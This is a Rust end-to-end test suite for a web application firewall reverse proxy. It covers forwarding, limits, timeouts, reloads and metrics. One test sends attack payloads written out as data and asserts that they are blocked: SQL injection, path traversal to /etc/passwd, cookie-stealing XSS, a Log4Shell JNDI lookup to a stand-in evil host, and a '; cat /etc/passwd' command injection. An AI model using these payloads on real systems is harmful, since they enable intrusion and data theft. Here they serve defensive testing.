//! End-to-end tests of the reverse proxy on loopback, against an upstream
//! written here with hyper that records every request it receives.

use std::convert::Infallible;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use bytes::Bytes;
use http::{Request, Response, StatusCode};
use http_body_util::{BodyExt, Full};
use hyper::body::Incoming;
use hyper::service::service_fn;
use hyper_util::client::legacy::Client;
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use wafio_proxy::{OverLimit, ProxyConfig, ProxyHandle};

mod common;
use common::{client, get, send, start_proxy, TestClient};

/// What the upstream received.
#[derive(Clone, Debug)]
struct Seen {
    method: String,
    uri: String,
    headers: Vec<(String, Vec<u8>)>,
    body: Bytes,
}

impl Seen {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .and_then(|(_, v)| std::str::from_utf8(v).ok())
    }
}

type Log = Arc<Mutex<Vec<Seen>>>;

/// An HTTP/1.1 upstream that records requests and answers 200 "upstream ok".
async fn upstream() -> (SocketAddr, Log) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let log: Log = Arc::default();
    let l = log.clone();
    tokio::spawn(async move {
        loop {
            let Ok((stream, _)) = listener.accept().await else {
                return;
            };
            let l = l.clone();
            tokio::spawn(async move {
                let svc = service_fn(move |req: Request<Incoming>| {
                    let l = l.clone();
                    async move {
                        let (parts, body) = req.into_parts();
                        let body = body
                            .collect()
                            .await
                            .map(|c| c.to_bytes())
                            .unwrap_or_default();
                        l.lock().unwrap().push(Seen {
                            method: parts.method.to_string(),
                            uri: parts.uri.to_string(),
                            headers: parts
                                .headers
                                .iter()
                                .map(|(n, v)| (n.to_string(), v.as_bytes().to_vec()))
                                .collect(),
                            body,
                        });
                        Ok::<_, Infallible>(
                            Response::builder()
                                .header("x-upstream", "1")
                                .body(Full::new(Bytes::from_static(b"upstream ok")))
                                .unwrap(),
                        )
                    }
                });
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(TokioIo::new(stream), svc)
                    .await;
            });
        }
    });
    (addr, log)
}

struct Setup {
    addr: SocketAddr,
    admin: Option<SocketAddr>,
    log: Log,
    handle: ProxyHandle,
    config: ProxyConfig,
}

async fn start(edit: impl FnOnce(&mut ProxyConfig)) -> Setup {
    let (up, log) = upstream().await;
    let p = start_proxy(up, "e2e", edit).await;
    Setup {
        addr: p.addr,
        admin: p.admin,
        log,
        handle: p.handle,
        config: p.config,
    }
}

fn h2_client() -> TestClient {
    Client::builder(TokioExecutor::new())
        .http2_only(true)
        .build_http()
}

/// Raw bytes in, raw response out (until EOF or 5 s).
async fn raw(addr: SocketAddr, bytes: &[u8]) -> String {
    let mut s = TcpStream::connect(addr).await.unwrap();
    s.write_all(bytes).await.unwrap();
    let mut out = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), s.read_to_end(&mut out)).await;
    String::from_utf8_lossy(&out).into_owned()
}

const SQLI: &str = "1%27%20OR%20%271%27%3D%271";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn benign_requests_arrive_unchanged() {
    let s = start(|_| {}).await;
    let c = client();
    let req = Request::get(format!("http://{}/shop/items?id=42&q=blue+shoes", s.addr))
        .header("X-Custom-Thing", "value with  spaces; and=stuff")
        .header("Accept", "text/html")
        .header("Cookie", "session=abc123; theme=dark")
        .header("X-Forwarded-For", "10.9.8.7")
        .body(Full::new(Bytes::new()))
        .unwrap();
    let (status, headers, body) = send(&c, req).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body, "upstream ok");
    let id = headers
        .get("x-request-id")
        .unwrap()
        .to_str()
        .unwrap()
        .to_string();
    assert_eq!(headers.get("x-upstream").unwrap(), "1");
    let seen = s.log.lock().unwrap()[0].clone();
    assert_eq!(seen.method, "GET");
    assert_eq!(seen.uri, "/shop/items?id=42&q=blue+shoes");
    assert_eq!(
        seen.header("x-custom-thing"),
        Some("value with  spaces; and=stuff")
    );
    assert_eq!(seen.header("cookie"), Some("session=abc123; theme=dark"));
    assert_eq!(seen.header("host"), Some(s.addr.to_string().as_str()));
    assert_eq!(seen.header("x-forwarded-for"), Some("10.9.8.7, 127.0.0.1"));
    assert_eq!(seen.header("x-forwarded-proto"), Some("http"));
    assert_eq!(seen.header("x-request-id"), Some(id.as_str()));

    // A large body in chunked encoding, byte for byte.
    let big: Vec<u8> = (0..700_000u32)
        .map(|i| b"abcdefghij klmnopqrstuvwxyz\n"[(i % 28) as usize])
        .collect();
    let raw_req = format!(
        "POST /upload HTTP/1.1\r\nHost: a\r\nContent-Type: application/octet-stream\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n{:x}\r\n",
        big.len()
    );
    let mut bytes = raw_req.into_bytes();
    bytes.extend_from_slice(&big);
    bytes.extend_from_slice(b"\r\n0\r\n\r\n");
    let resp = raw(s.addr, &bytes).await;
    assert!(resp.starts_with("HTTP/1.1 200"), "{resp}");
    let seen = s.log.lock().unwrap()[1].clone();
    assert_eq!(seen.body.len(), big.len());
    assert!(seen.body == big[..], "body changed in transit");
    assert_eq!(
        seen.header("content-type"),
        Some("application/octet-stream")
    );
    assert!(
        seen.header("transfer-encoding").is_none()
            || seen.header("transfer-encoding") == Some("chunked")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http2_cleartext_passes_and_blocks() {
    let s = start(|_| {}).await;
    let c = h2_client();
    let req = Request::post(format!("http://{}/api/echo", s.addr))
        .header("content-type", "application/json")
        .body(Full::new(Bytes::from_static(
            br#"{"name":"alice","age":30}"#,
        )))
        .unwrap();
    let (status, _, _) = send(&c, req).await;
    assert_eq!(status, StatusCode::OK);
    let seen = s.log.lock().unwrap()[0].clone();
    assert_eq!(seen.body, &br#"{"name":"alice","age":30}"#[..]);
    assert_eq!(seen.uri, "/api/echo");
    assert_eq!(seen.header("host"), Some(s.addr.to_string().as_str()));
    let (status, _, _) = send(&c, get(s.addr, &format!("/?id={SQLI}"))).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(s.log.lock().unwrap().len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_in_every_location_are_blocked() {
    let s = start(|_| {}).await;
    let c = client();
    let a = s.addr;
    let cases: Vec<(&str, Request<Full<Bytes>>)> = vec![
        ("query", get(a, &format!("/search?q={SQLI}"))),
        ("path", get(a, "/files/..%2f..%2f..%2fetc%2fpasswd")),
        (
            "form body",
            Request::post(format!("http://{a}/login"))
                .header("content-type", "application/x-www-form-urlencoded")
                .body(Full::new(Bytes::from(format!("user=admin&pass={SQLI}"))))
                .unwrap(),
        ),
        (
            "json body",
            Request::post(format!("http://{a}/api"))
                .header("content-type", "application/json")
                .body(Full::new(Bytes::from_static(
                    br#"{"comment":"<script>alert(document.cookie)</script>"}"#,
                )))
                .unwrap(),
        ),
        (
            "cookie",
            Request::get(format!("http://{a}/"))
                .header("cookie", "sid=1' OR '1'='1")
                .body(Full::new(Bytes::new()))
                .unwrap(),
        ),
        (
            "header",
            Request::get(format!("http://{a}/"))
                .header("user-agent", "${jndi:ldap://evil.example/a}")
                .body(Full::new(Bytes::new()))
                .unwrap(),
        ),
        (
            "multipart",
            Request::post(format!("http://{a}/upload"))
                .header("content-type", "multipart/form-data; boundary=XyZ")
                .body(Full::new(Bytes::from_static(
                    b"--XyZ\r\nContent-Disposition: form-data; name=\"cmd\"\r\n\r\n; cat /etc/passwd\r\n--XyZ--\r\n",
                )))
                .unwrap(),
        ),
    ];
    for (what, req) in cases {
        let (status, headers, body) = send(&c, req).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{what}");
        let id = headers.get("x-request-id").unwrap().to_str().unwrap();
        let text = String::from_utf8_lossy(&body);
        assert!(text.contains(id), "{what}: {text}");
        assert!(
            !text.contains("sqli") && !text.contains("rule"),
            "{what} leaks: {text}"
        );
    }
    assert!(
        s.log.lock().unwrap().is_empty(),
        "an attack reached the upstream"
    );

    // One audit line per block, with the evidence.
    let audit = std::fs::read_to_string(&s.config.audit_log).unwrap();
    let lines: Vec<serde_json::Value> = audit
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 7);
    let first = &lines[0];
    assert_eq!(first["decision"], "block");
    assert_eq!(first["method"], "GET");
    assert_eq!(first["client"], "127.0.0.1");
    assert!(first["uri"].as_str().unwrap().starts_with("/search?q="));
    assert_eq!(first["detectors"][0]["detector"], "sqli");
    assert_eq!(first["detectors"][0]["location"], "ARGS_GET:q");
    assert!(first["score"].as_f64().unwrap() >= 5.0);
    assert!(first["micros"].as_u64().is_some());
    assert!(first["time"].as_str().unwrap().ends_with('Z'));
    let _ = std::fs::remove_file(&s.config.audit_log);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn body_limit_rejects_or_streams() {
    let s = start(|c| c.body_limit = 1024).await;
    let c = client();
    let body = Bytes::from(vec![b'x'; 4096]);
    let req = Request::post(format!("http://{}/up", s.addr))
        .body(Full::new(body.clone()))
        .unwrap();
    let (status, _, _) = send(&c, req).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
    // Chunked, no declared length: rejected once the limit is passed.
    let mut raw_req = b"POST /up HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n1000\r\n".to_vec();
    raw_req.extend_from_slice(&[b'y'; 4096]);
    raw_req.extend_from_slice(b"\r\n0\r\n\r\n");
    let resp = raw(s.addr, &raw_req).await;
    assert!(resp.starts_with("HTTP/1.1 413"), "{resp}");
    assert!(s.log.lock().unwrap().is_empty());

    let s = start(|c| {
        c.body_limit = 1024;
        c.over_limit = OverLimit::Stream;
    })
    .await;
    let req = Request::post(format!("http://{}/up", s.addr))
        .body(Full::new(body.clone()))
        .unwrap();
    let (status, _, _) = send(&c, req).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(s.log.lock().unwrap()[0].body, body);
    // The inspected prefix still blocks.
    let req = Request::post(format!("http://{}/up", s.addr))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(Full::new(Bytes::from(format!(
            "a={SQLI}&b={}",
            "z".repeat(4000)
        ))))
        .unwrap();
    let (status, _, _) = send(&c, req).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn malformed_requests_get_400() {
    let s = start(|_| {}).await;
    for bad in [
        &b"GET / HTTP/1.1\r\nHost: a\r\nBad Header Line\r\n\r\n"[..],
        b"GET / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nContent-Length: 7\r\n\r\nhello",
        b"GET /\x01 HTTP/1.1\r\nHost: a\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03garbage\r\n\r\n",
    ] {
        let resp = raw(s.addr, bad).await;
        assert!(
            resp.is_empty() || resp.starts_with("HTTP/1.1 400"),
            "{resp:?}"
        );
    }
    let resp = raw(
        s.addr,
        b"GET / HTTP/1.1\r\nHost: a\r\nBad Header Line\r\n\r\n",
    )
    .await;
    assert!(resp.starts_with("HTTP/1.1 400"), "{resp:?}");
    assert!(s.log.lock().unwrap().is_empty());
    // Still serving.
    let (status, _, _) = send(&client(), get(s.addr, "/")).await;
    assert_eq!(status, StatusCode::OK);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unreachable_upstream_gets_502() {
    let dead = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap()
    };
    let s = start(|c| c.upstream = format!("http://{dead}")).await;
    let (status, headers, _) = send(&client(), get(s.addr, "/")).await;
    assert_eq!(status, StatusCode::BAD_GATEWAY);
    assert!(headers.contains_key("x-request-id"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_clients_time_out() {
    let s = start(|c| {
        c.header_timeout_ms = 300;
        c.body_timeout_ms = 300;
        c.idle_timeout_ms = 2000;
    })
    .await;
    // Slow headers: one line, then nothing.
    let started = std::time::Instant::now();
    let mut conn = TcpStream::connect(s.addr).await.unwrap();
    conn.write_all(b"GET / HTTP/1.1\r\nHost: a\r\n")
        .await
        .unwrap();
    let mut out = Vec::new();
    let r = tokio::time::timeout(Duration::from_secs(5), conn.read_to_end(&mut out)).await;
    assert!(r.is_ok(), "connection not closed");
    assert!(started.elapsed() < Duration::from_secs(3));

    // Slow body: headers promise 100 bytes, 10 arrive.
    let started = std::time::Instant::now();
    let mut conn = TcpStream::connect(s.addr).await.unwrap();
    conn.write_all(b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 100\r\n\r\n0123456789")
        .await
        .unwrap();
    let mut out = Vec::new();
    let r = tokio::time::timeout(Duration::from_secs(5), conn.read_to_end(&mut out)).await;
    assert!(r.is_ok(), "connection not closed");
    let text = String::from_utf8_lossy(&out);
    assert!(text.starts_with("HTTP/1.1 408"), "{text}");
    assert!(started.elapsed() < Duration::from_secs(3));
    assert!(s.log.lock().unwrap().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reload_under_load_drops_nothing() {
    let s = start(|_| {}).await;
    let addr = s.addr;
    let mut tasks = Vec::new();
    for _ in 0..4 {
        tasks.push(tokio::spawn(async move {
            let c = client();
            let mut failed = 0;
            for i in 0..60 {
                let (status, _, _) = send(&c, get(addr, &format!("/item/{i}?page=2"))).await;
                if status != StatusCode::OK {
                    failed += 1;
                }
            }
            failed
        }));
    }
    let mut detect = s.config.clone();
    detect.waf.mode = wafio_proxy::Mode::Detect;
    for i in 0..20 {
        let next = if i % 2 == 0 { &detect } else { &s.config };
        s.handle.reload(next).unwrap();
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    for t in tasks {
        assert_eq!(t.await.unwrap(), 0);
    }
    assert_eq!(s.log.lock().unwrap().len(), 240);

    // The last reload decides: detect lets an attack through and logs it.
    s.handle.reload(&detect).unwrap();
    let (status, _, _) = send(&client(), get(addr, &format!("/?id={SQLI}"))).await;
    assert_eq!(status, StatusCode::OK);
    // A refused reload keeps the running configuration.
    let mut bad = s.config.clone();
    bad.waf.detectors = vec!["nope".into()];
    assert!(s.handle.reload(&bad).is_err());
    let (status, _, _) = send(&client(), get(addr, &format!("/?id={SQLI}"))).await;
    assert_eq!(status, StatusCode::OK);
    let _ = std::fs::remove_file(&s.config.audit_log);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn healthz_and_metrics() {
    let s = start(|c| c.admin_listen = Some("127.0.0.1:0".parse().unwrap())).await;
    let c = client();
    send(&c, get(s.addr, "/ok")).await;
    send(&c, get(s.addr, &format!("/?id={SQLI}"))).await;
    let admin = s.admin.unwrap();
    let (status, _, body) = send(&c, get(admin, "/healthz")).await;
    assert_eq!((status, &body[..]), (StatusCode::OK, &b"ok\n"[..]));
    let (_, _, body) = send(&c, get(admin, "/metrics")).await;
    let text = String::from_utf8_lossy(&body);
    assert!(
        text.contains("wafio_requests_total{outcome=\"pass\"} 1"),
        "{text}"
    );
    // On the main listener of a proxy with an admin listener, /healthz is
    // the upstream's.
    send(&c, get(s.addr, "/healthz")).await;
    assert_eq!(s.log.lock().unwrap().len(), 2);
    // Without an admin listener these answer on the main listener.
    let s2 = start(|_| {}).await;
    let (status, _, body) = send(&c, get(s2.addr, "/healthz")).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body, "ok\n");
    send(&c, get(s2.addr, &format!("/?id={SQLI}"))).await;
    let (status, _, body) = send(&c, get(s2.addr, "/metrics")).await;
    assert_eq!(status, StatusCode::OK);
    let text = String::from_utf8_lossy(&body);
    assert!(
        text.contains("wafio_requests_total{outcome=\"block\"} 1"),
        "{text}"
    );
    assert!(
        text.contains("wafio_blocks_total{category=\"sqli\"} 1"),
        "{text}"
    );
    assert!(
        text.contains("wafio_request_duration_seconds_bucket"),
        "{text}"
    );
    assert!(s2.log.lock().unwrap().is_empty());
    let _ = std::fs::remove_file(&s.config.audit_log);
    let _ = std::fs::remove_file(&s2.config.audit_log);
}
